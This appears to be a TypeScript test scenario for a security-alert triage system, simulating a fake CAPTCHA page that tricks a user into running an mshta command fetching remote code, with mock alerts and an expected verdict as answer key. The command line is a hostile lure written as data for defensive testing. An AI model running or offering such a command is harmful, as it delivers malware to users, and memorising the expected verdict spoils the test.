// A page asks to prove that one is human, and then mshta runs with an address that nobody knows.
import { alert, by, processSeen, ran, situation, unjudged } from '../../shorthand.ts'

export const pastedIntoTheRunBox = situation(
  'pasted-into-the-run-box',
  'chains',
  'A page that asks to paste something, then mshta',
  (setting) => {
    const tomas = setting.person('tomas.wikner')
    const laptop = setting.laptopOf('tomas.wikner')
    const at = setting.ago({ minutes: 44 })
    const site = 'human-check-portal.net'
    const command = `mshta https://${site}/v/7a1.mp4 # I am not a robot: reCAPTCHA 4471`
    const found = unjudged(setting, 'run box', {
      title: 'Suspicious command run from the Run dialog',
      category: 'Execution',
      severity: 'High',
      techniques: ['T1204.004', 'T1218.005'],
      at,
      machine: laptop,
      user: tomas,
      evidence: [processSeen(setting, 'mshta.exe', 'C:\\Windows\\System32', command), { kind: 'User', person: tomas }],
    })
    return {
      alerts: [
        alert(setting, at - 50_000, 'cloudflare_gateway', 'Newly seen domain visited', {
          AccountID: '7f0d2c1e3b9a4d55',
          Action: 'allow',
          Datetime: setting.iso(at - 50_000),
          DestinationIP: '188.114.97.41',
          DeviceName: laptop.host,
          Email: tomas.email,
          HTTPHost: site,
          HTTPMethod: 'GET',
          HTTPStatusCode: 200,
          URL: `https://${site}/v/`,
          SourceInternalIP: laptop.ip,
          PolicyName: 'Allow newly seen',
          CategoryNames: ['Newly Seen Domains'],
        }),
        alert(setting, at, 'bitdefender_gravityzone', 'Suspicious use of mshta', {
          module: 'new-incident',
          created: setting.iso(at),
          incident_id: '6736b6f1d4c2a90012ab34ee',
          severity_score: 74,
          attack_entry: 1,
          main_action: 'reported',
          computer_name: laptop.host,
          computer_fqdn: laptop.dnsName,
          computer_ip: laptop.ip,
          username: `HAVSKOG\\${tomas.account}`,
          detection_name: 'SuspiciousCommand.RunMRU',
          attack_types: ['Execution'],
          att_ck_id: ['T1204.004', 'T1218.005'],
          process_path: 'C:\\Windows\\System32\\mshta.exe',
          process_command_line: command,
          parent_process_path: 'C:\\Windows\\explorer.exe',
        }),
      ],
      facts: { incidents: [found.incident], telemetry: [ran(laptop, at, 'mshta.exe', command, by(tomas))] },
      connections: { 'malware-protection': null },
      expected: {
        verdict: 'suspicious',
        severities: ['medium', 'high'],
        forbidden: [
          { action: 'isolate-machine', target: '*' },
          { action: 'block-indicator', target: '188.114.97.41' },
        ],
      },
      because:
        'The endpoint platform has an unjudged detection of high severity of this very command, which is a known trick. Nobody knows the site as hostile and nothing further was seen, so it is not proven.',
    }
  },
)
